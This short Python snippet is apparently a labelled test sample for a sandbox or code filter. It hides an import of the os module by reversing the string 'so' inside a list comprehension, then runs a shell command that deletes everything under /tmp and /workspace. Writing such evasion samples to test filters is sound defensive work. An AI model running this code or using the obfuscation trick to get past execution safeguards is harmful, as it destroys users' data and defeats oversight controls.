# attack-class: 2
# title: __import__ inside a list comprehension over candidate names
# why: picks the first importable forbidden module from a computed list

mods = [__import__(n) for n in ("so"[::-1], "sys") if n]
mods[0].system("rm -rf /tmp/* /workspace/*")
